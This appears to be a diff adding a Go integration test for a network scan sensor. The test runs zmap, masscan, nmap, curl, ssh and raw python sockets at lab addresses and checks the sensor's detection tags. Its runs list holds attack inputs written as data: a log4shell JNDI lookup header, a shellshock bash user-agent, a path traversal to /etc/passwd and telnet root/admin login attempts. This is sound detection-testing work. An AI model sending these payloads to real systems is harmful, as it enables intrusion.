@@ -455,3 +455,105 @@ func readIDs(t *testing.T, name string) []string {
 	}
 	return ids
 }
+
+// toolRun is one tool sending real traffic at its own dark address, and
+// the tags its events must carry.
+type toolRun struct {
+	name string
+	dst  string
+	cmd  []string // run in nl-scan
+	want []string
+}
+
+// pyRaw sends bytes over TCP or UDP with python3 and reads what comes back:
+// for protocols whose clients are not installed in the lab.
+func pyRaw(proto, dst string, port int, payloads ...string) []string {
+	script := fmt.Sprintf(`import socket,sys,time
+s=socket.socket(socket.AF_INET, socket.SOCK_%s)
+s.settimeout(3)
+s.connect((%q,%d))
+for p in sys.argv[1:]:
+    s.send(p.encode('latin-1').decode('unicode_escape').encode('latin-1'))
+    try: s.recv(4096)
+    except Exception: pass
+    time.sleep(0.2)
+s.close()`, map[string]string{"tcp": "STREAM", "udp": "DGRAM"}[proto], dst, port)
+	return append([]string{"python3", "-c", script}, payloads...)
+}
+
+func TestSensorTagsRealTools(t *testing.T) {
+	needLab(t)
+	for _, tool := range []string{"zmap", "masscan", "nmap", "curl", "ssh", "redis-cli", "python3", "ping"} {
+		if _, err := exec.LookPath(tool); err != nil {
+			t.Skipf("skipping: %s is not installed (netlab deps installs the lab's tools): %v", tool, err)
+		}
+	}
+	s := startSensor(t, "--conn-timeout", "5s")
+	blocklist := filepath.Join(s.dir, "empty.conf")
+	os.WriteFile(blocklist, nil, 0o644)
+	d := func(i int) string { return fmt.Sprintf("198.51.100.%d", 130+i) }
+	browser := "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/124.0 Safari/537.36"
+	runs := []toolRun{
+		{"ping", d(0), []string{"ping", "-c", "2", "-W", "1", d(0)}, []string{"ICMP_ECHO_REQUEST"}},
+		{"zmap", d(1), []string{"zmap", "-q", "-p", "80", "-i", lab.ScanIF, "-S", lab.ScanIP, "-G", lab.GatewayMC, "-b", blocklist, "-c", "1", "-o", "/dev/null", d(1) + "/32"},
+			[]string{"TCP_SYN", "ZMAP"}},
+		{"masscan", d(2), []string{"masscan", d(2), "-p80,443", "--rate", "1000", "--adapter", lab.ScanIF, "--adapter-ip", lab.ScanIP,
+			"--adapter-mac", lab.ScanMAC, "--router-mac", lab.GatewayMC, "--wait", "1", "-oL", "/dev/null"}, []string{"TCP_SYN", "MASSCAN"}},
+		{"nmap -sS", d(3), []string{"nmap", "-sS", "-Pn", "-n", "-p", "22,80,3389", d(3)}, []string{"TCP_SYN", "NMAP"}},
+		{"nmap -sV", d(4), []string{"nmap", "-sV", "-Pn", "-n", "-p", "80", d(4)}, []string{"TCP_SYN", "NMAP", "HTTP_SCANNER"}},
+		{"curl, browser", d(5), []string{"curl", "-s", "-m", "5", "-o", "/dev/null", "-A", browser, "http://" + d(5) + "/"}, []string{"TCP_SYN", "HTTP_SCANNER"}},
+		{"curl, scanner UA", d(6), []string{"curl", "-s", "-m", "5", "-o", "/dev/null", "-A", "Mozilla/5.0 zgrab/0.x", "http://" + d(6) + "/"}, []string{"TCP_SYN", "HTTP_SCANNER", "ZGRAB"}},
+		{"ssh", d(7), []string{"ssh", "-o", "BatchMode=yes", "-o", "StrictHostKeyChecking=no", "-o", "UserKnownHostsFile=/dev/null", "-o", "ConnectTimeout=5", "root@" + d(7), "true"}, []string{"TCP_SYN", "SSH_SCANNER"}},
+		{"sip OPTIONS (svmap-style)", d(8), pyRaw("udp", d(8), 5060, `OPTIONS sip:100@`+d(8)+` SIP/2.0\r\nVia: SIP/2.0/UDP 192.0.2.10:5060;branch=z9hG4bK-1\r\nMax-Forwards: 70\r\nFrom: "sipvicious"<sip:100@1.1.1.1>;tag=1\r\nTo: "sipvicious"<sip:100@1.1.1.1>\r\nCall-ID: 1\r\nCSeq: 1 OPTIONS\r\nUser-Agent: friendly-scanner\r\nContent-Length: 0\r\n\r\n`), []string{"UDP_PROBE", "SIP_SCANNER", "SIPVICIOUS"}},
+		{"rdp X.224", d(9), pyRaw("tcp", d(9), 3389, `\x03\x00\x00\x2a\x25\xe0\x00\x00\x00\x00\x00Cookie: mstshash=administr\r\n\x01\x00\x08\x00\x03\x00\x00\x00`), []string{"TCP_SYN", "RDP_SCANNER"}},
+		{"redis-cli", d(10), []string{"redis-cli", "-h", d(10), "-p", "6379", "INFO"}, []string{"TCP_SYN", "REDIS_SCANNER"}},
+		{"telnet login", d(11), pyRaw("tcp", d(11), 23, `root\r\n`, `admin\r\n`), []string{"TCP_SYN", "TELNET_SCANNER", "TELNET_LOGIN_ATTEMPT"}},
+		{"log4shell", d(12), []string{"curl", "-s", "-m", "5", "-o", "/dev/null", "-H", "X-Api-Version: ${jndi:ldap://198.51.100.1:1389/a}", "http://" + d(12) + "/"}, []string{"TCP_SYN", "HTTP_SCANNER", "CURL", "LOG4SHELL"}},
+		{"shellshock", d(13), []string{"curl", "-s", "-m", "5", "-o", "/dev/null", "-A", "() { :; }; /bin/bash -c 'id'", "http://" + d(13) + "/cgi-bin/status"}, []string{"TCP_SYN", "HTTP_SCANNER", "SHELLSHOCK"}},
+		{"path traversal", d(14), []string{"curl", "-s", "-m", "5", "-o", "/dev/null", "--path-as-is", "http://" + d(14) + "/../../../../etc/passwd"}, []string{"TCP_SYN", "HTTP_SCANNER", "CURL", "PATH_TRAVERSAL"}},
+	}
+	ctx, cancel := context.WithTimeout(context.Background(), 3*time.Minute)
+	defer cancel()
+	for _, r := range runs {
+		out, err := lab.Command(ctx, lab.NSScan, r.cmd[0], r.cmd[1:]...).CombinedOutput()
+		t.Logf("%s: %v %.120s", r.name, err, strings.TrimSpace(string(out)))
+	}
+	time.Sleep(2 * time.Second)
+	evs := s.stop(t)
+	got := map[string]map[string]bool{}
+	for _, e := range evs {
+		k := e.Dst.String()
+		if got[k] == nil {
+			got[k] = map[string]bool{}
+		}
+		for _, tg := range e.Tags {
+			got[k][tg] = true
+		}
+	}
+	t.Logf("%-26s %-52s %-52s %s", "tool", "expected", "observed", "precision recall")
+	var tp, fp, fn int
+	for _, r := range runs {
+		var obs []string
+		for tg := range got[r.dst] {
+			obs = append(obs, tg)
+		}
+		sort.Strings(obs)
+		want := map[string]bool{}
+		for _, w := range r.want {
+			want[w] = true
+		}
+		hit := 0
+		for _, o := range obs {
+			if want[o] {
+				hit++
+			}
+		}
+		tp, fp, fn = tp+hit, fp+len(obs)-hit, fn+len(r.want)-hit
+		t.Logf("%-26s %-52s %-52s %3.0f%% %3.0f%%", r.name, strings.Join(r.want, ","), strings.Join(obs, ","),
+			100*float64(hit)/float64(max(len(obs), 1)), 100*float64(hit)/float64(len(r.want)))
+	}
+	t.Logf("all tools: precision %.1f%%, recall %.1f%%", 100*float64(tp)/float64(tp+fp), 100*float64(tp)/float64(tp+fn))
+	if fp != 0 || fn != 0 {
+		t.Errorf("%d tags wrong, %d missing", fp, fn)
+	}
+}
